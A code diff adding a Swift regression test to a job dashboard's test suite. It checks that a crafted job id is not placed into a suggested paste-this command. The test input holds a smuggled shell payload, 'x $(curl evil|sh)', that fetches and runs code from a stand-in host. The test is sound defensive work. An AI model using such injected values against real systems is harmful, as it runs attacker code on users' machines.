@@ -35,6 +35,15 @@ import Testing
         #expect(missed.text.contains("No job") && missed.text.contains("oldest 1000 and newest 1000 entries"), "\(missed.text)")
         #expect(missed.text.contains("hoopoe job show --whole-stream old-2000"))
     }
+
+    /// A link's id no job can have is not put into a command to paste: `id=x $(curl …|sh)` was printed inside the
+    /// suggested `hoopoe job show --whole-stream`, escaped for HTML, not for a shell.
+    @Test func anIdNoJobCanHaveIsNotSuggestedAsACommand() async throws {
+        let harness = try DashboardHarness()
+        let page = try await harness.get("/job?queue=default&id=x%20%24(curl%20evil%7Csh)")
+        #expect(page.status == .ok && page.text.contains("No job"), "\(page.text)")
+        #expect(!page.text.contains("--whole-stream") && page.text.contains("no job can have this id"), "\(page.text)")
+    }
 }
 
 extension JobPageTests {
